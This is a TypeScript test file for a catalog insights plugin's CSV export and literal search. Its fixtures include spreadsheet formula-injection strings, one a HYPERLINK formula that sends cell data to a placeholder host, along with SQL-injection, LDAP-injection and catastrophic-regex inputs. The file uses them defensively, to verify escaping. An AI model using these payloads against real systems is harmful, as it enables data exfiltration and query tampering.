import {
  type TestDatabaseId,
  TestDatabases,
} from '@backstage/backend-test-utils';
import type { Entity } from '@backstage/catalog-model';
import type { ComponentRow } from '@fairway/plugin-catalog-insights-common';
import { loadEntities } from './__testUtils__/loadEntities';
import { entity, startCatalog } from './__testUtils__/startCatalog';

jest.setTimeout(360_000);

const databases = TestDatabases.create({
  ids: ['POSTGRES_18', 'SQLITE_3'],
  disableDocker: true,
});

const COUNT = 10_000;
/** What a spreadsheet would take for a formula, and what would break a line. */
const TITLES = [
  ...['=1+1', '+1', '-1', '@SUM(A1)', ' =1', '\t=1', '\r=1', '\n=1', '＝1'],
  ...['=HYPERLINK("http://acme.test?"&A1,"a")', 'a "quote", and a\r\nline'],
];
const pad = (number: number) => String(number).padStart(5, '0');
const LONG = 'and so on '.repeat(25);

/** Components that each have a word of their own; of one in five the description is too long for the table of fields. */
const components: Entity[] = Array.from({ length: COUNT }, (_, number) => ({
  ...entity('Component', `c${pad(number)}`, {
    metadata: {
      title: TITLES[number % TITLES.length],
      description: `Keeps w${pad(number)}_x in stock${number % 5 ? '' : `, ${LONG}`}`,
      tags: [`t${number % 40}`, number === 4_711 ? 'needle' : 'hay'],
    },
    spec: { type: 'service', lifecycle: 'production', owner: 'checkout' },
  }),
  relations: [{ type: 'ownedBy', targetRef: 'group:default/checkout' }],
}));

/** What stands in the cells of CSV, as RFC 4180 has it. */
function parseCsv(text: string): string[][] {
  const lines: string[][] = [];
  let line: string[] = [];
  for (const [, quoted, plain, end] of text.matchAll(
    /(?:"((?:[^"]|"")*)"|([^",\r\n]*))(,|\r\n)/g,
  )) {
    line.push(quoted?.replaceAll('""', '"') ?? plain);
    if (end === ',') continue;
    lines.push(line);
    line = [];
  }
  return lines;
}

describe.each(databases.eachSupportedId())(
  'a list of 10,000 on %s',
  (id: TestDatabaseId) => {
    async function start() {
      const knex = await databases.init(id);
      const catalog = await startCatalog({ knex, entities: [] });
      await loadEntities(knex, components);
      const found = async (q: string) => {
        const began = performance.now();
        const query = new URLSearchParams({ q, limit: '100' });
        const { body } = await catalog
          .get(`/insights/components?${query}`)
          .expect(200);
        return {
          names: body.items.map(({ name }: ComponentRow) => name) as string[],
          milliseconds: performance.now() - began,
        };
      };
      return { ...catalog, knex, found };
    }
    let started: Awaited<ReturnType<typeof start>>;
    beforeAll(async () => {
      started = await start();
    });
    afterAll(() => started.backend.stop());

    it('is whole as CSV, with no cell that a spreadsheet would compute', async () => {
      const { text } = await started
        .get('/insights/components.csv?sort=name')
        .expect(200);

      const [head, ...lines] = parseCsv(text);
      expect(head.slice(0, 3)).toEqual(['entityRef', 'name', 'title']);
      expect(lines.map(([, name]) => name)).toEqual(
        components.map(({ metadata }) => metadata.name),
      );
      expect(new Set(lines.map(({ length }) => length))).toEqual(
        new Set([head.length]),
      );
      expect(lines.slice(0, TITLES.length).map(([, , title]) => title)).toEqual(
        TITLES.map(title => (title.startsWith('a') ? title : `'${title}`)),
      );
      expect(lines.flat().filter(cell => /^\s*[=+\-@]/.test(cell))).toEqual([]);
    });

    it('is searched literally within a second, with an index and without', async () => {
      const { found, settle } = started;
      const expected: [q: string, names: string[]][] = [
        ['w04711_x', ['c04711']],
        // In a description that is too long for the table of fields.
        ['W04715_X', ['c04715']],
        ['needle', ['c04711']],
        ['needle keeps c04711', ['c04711']],
        ...(['w04711%x', 'w0471__x', 'w04711\\_x', 'needl_'] as const).map(
          (q): [string, string[]] => [q, []],
        ),
        ...(['%', '\\', '.*', '(a+)+$', '*)(uid=*', "' OR 1=1--"] as const).map(
          (q): [string, string[]] => [q, []],
        ),
        ['_', components.slice(0, 100).map(({ metadata }) => metadata.name)],
        ['a', components.slice(0, 100).map(({ metadata }) => metadata.name)],
      ];
      for (const turn of ['as it is', 'settled']) {
        if (turn === 'settled') await settle();
        for (const [q, names] of expected) {
          const answers = [await found(q), await found(q), await found(q)];
          expect({ turn, q, names: answers[0].names }).toEqual({
            ...{ turn, q, names },
          });
          // The quickest, since the machine may do other things as well.
          expect(
            Math.min(...answers.map(({ milliseconds }) => milliseconds)),
          ).toBeLessThan(1_000);
        }
      }
    });

    it('counts what is found in texts', async () => {
      const { body } = await started
        .get('/insights/components/total?q=stock&exact=true')
        .expect(200);
      expect(body).toEqual({ total: COUNT, exact: true });
    });
  },
);
